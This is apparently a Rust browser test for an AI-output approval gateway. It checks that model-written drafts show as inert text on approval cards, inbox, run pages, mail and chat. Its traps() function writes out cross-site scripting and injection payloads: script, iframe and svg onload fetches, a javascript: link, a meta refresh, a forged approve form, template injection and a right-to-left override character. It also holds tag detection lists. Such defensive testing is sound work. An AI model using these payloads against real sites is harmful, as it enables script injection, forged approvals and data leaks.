//! HC-34: what a model writes is text, wherever it is shown: on the card, in lists, in the mail, in the chat. Looked for
//! in a real browser: requests, elements, scripts.

use effectgate_testkit::browser::{Browser, Look, Site};
use serde_json::{Value, json};

use crate::{
    eye::Visits,
    town::{Place, hostile_mail},
    world::{World, mail_to, note, plain},
};

/// Everything that a browser would fetch, run or follow by itself if it took the text for a page.
fn traps(site: &str) -> String {
    format!(
        "<img src=\"{site}/img\"><script src=\"{site}/script\"></script><link rel=stylesheet href=\"{site}/css\">\
         <iframe src=\"{site}/frame\"></iframe><style>@import '{site}/style';</style>\
         <svg onload=\"fetch('{site}/svg')\"></svg><meta http-equiv=refresh content=\"0;url={site}/meta\">\
         <form id=approve method=post><button>OK</button></form><a href=\"javascript:fetch('{site}/js')\">x</a>\
         '\"><script>document.title='ran'</script>{{{{7*7}}}}"
    )
}

/// A run whose every text is a trap.
fn trapped(world: &World, site: &str) -> String {
    let trap = traps(site);
    let effects = [hostile_mail(), mail_to("b@example.test", "a\u{202e}b", &trap), note("c-<b>1</b>", &trap)];
    let more = json!({
        "output": { "label": trap, "reply": trap }, "summary": trap,
        "source_url": "javascript:fetch('/approve')",
        "model": { "provider_class": "local", "name": trap.get(..60), "revision": "<i>1</i>" },
    });
    let answer = world.proposed("ticket-reply", "hostile:<script>k</script>:1", &effects, &more);
    answer["run"]["id"].as_str().unwrap().to_owned()
}

/// Elements that no page of ours has, and scripts that are not the one of ours.
const FOREIGN: &str = "
    const odd = [...document.querySelectorAll('img, iframe, object, embed, video, audio, base, b > script, style, [onload], [onerror], [onclick], button[form]')];
    const scripts = [...document.scripts].filter(s => !new URL(s.src || 'x:', location).pathname.startsWith('/static/'));
    const links = [...document.links].filter(a => a.protocol === 'javascript:');
    return [...odd, ...scripts, ...links].map(e => e.outerHTML.slice(0, 200));";

async fn inert(browser: &Browser, world: &World, place: &Place, reads: &[&str]) {
    let (foreign, text) = (browser.script(FOREIGN, &[]).await, browser.text().await);
    assert_eq!(foreign, Value::Array(Vec::new()), "{}", place.name);
    assert_ne!(browser.title().await, "ran", "{}", place.name);
    for part in reads {
        assert!(text.contains(part), "{}: {part} is not to be read: {text}", place.name);
    }
    for request in browser.requests().await {
        let path = request.url.strip_prefix(&world.gate.url).unwrap_or_else(|| panic!("{}: {request:?}", place.name));
        let own = ["/static/", "/live", "/a/", "/approvals/", "/favicon.ico"].iter().any(|own| path.starts_with(own));
        assert!(request.method == "GET" && (own || path == place.path), "{}: {request:?}", place.name);
    }
    let lines = browser.console().await;
    assert!(lines.is_empty(), "{}: the page said: {lines:?}", place.name);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hc_34_nothing_of_a_draft_runs_fetches_or_becomes_an_element() {
    let Some(browser) = Browser::start(&Look::desktop()).await else { return };
    let (world, site) = (World::new().await, Site::start(|_| String::new()).await);
    let run = trapped(&world, &site.url());
    let approval = world.run(&run)["approval"]["id"].as_str().unwrap().to_owned();
    let card = ["<img src=x onerror=", "U+202E", "amount: 9999.00", "<script src=", "{{7*7}}"];
    let list = ["hostile:<script>k</script>:1"];
    let mut visits = Visits::new(&world, &browser);

    for (name, who, path, reads) in [
        ("card", "anna", format!("/approvals/{approval}"), card.as_slice()),
        ("inbox", "anna", "/inbox".to_owned(), list.as_slice()),
        ("run", "otto", format!("/runs/{run}"), list.as_slice()),
        ("runs", "otto", "/runs".to_owned(), list.as_slice()),
        ("journal", "audra", "/journal".to_owned(), [].as_slice()),
    ] {
        let place = Place { name, who, path };
        visits.to(&Place { name, who, path: "/static/icon.svg".to_owned() }).await;
        browser.requests().await;
        browser.console().await;
        visits.to(&place).await;
        inert(&browser, &world, &place, reads).await;
    }

    assert_eq!(site.asked(), Vec::<String>::new());
    assert_eq!(world.standing(&run), ("awaiting_human".to_owned(), 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hc_34_in_mail_and_chat_a_draft_is_text_too() {
    let (world, site) = (World::new().await, Site::start(|_| String::new()).await);
    trapped(&world, &site.url());
    world.path("anna", "hostile:").await;

    for mail in world.mail.ledger().messages {
        let texts = mail.texts();
        let (kind, first) = &texts[0];
        assert!(kind.starts_with("text/plain"), "plain text comes first: {kind}");
        assert!(!first.contains('\u{202e}') && !first.contains('\u{200b}'), "{first}");
        assert!(first.contains("U+202E") || first.contains('\u{fffd}'), "a mark stands in its place: {first}");
        for (_, html) in texts.iter().filter(|(kind, _)| kind.starts_with("text/html")) {
            let low = html.to_lowercase();
            for tag in ["<img", "<script", "<iframe", "<svg", "<link", "<form", "<button", "javascript:", "{{7*7"] {
                let is_text = !low.contains(tag) || tag.starts_with('{') || tag.starts_with("java");
                assert!(is_text, "{tag} is an element in the mail: {html}");
            }
        }
        // One link that stands alone, and it is ours.
        let alone =
            plain(&mail).lines().filter(|line| line.trim().starts_with("http")).map(str::to_owned).collect::<Vec<_>>();
        assert!(alone.iter().all(|line| line.trim().starts_with(&world.gate.url)), "{alone:?}");
    }
    let chat = world.chat.requests(1).await;
    let body = String::from_utf8(chat.requests[0].body.clone()).unwrap();
    assert!(!body.contains("<img") && !body.contains("<script") && !body.contains("<!"), "{body}");
    assert_eq!(site.asked(), Vec::<String>::new());
}
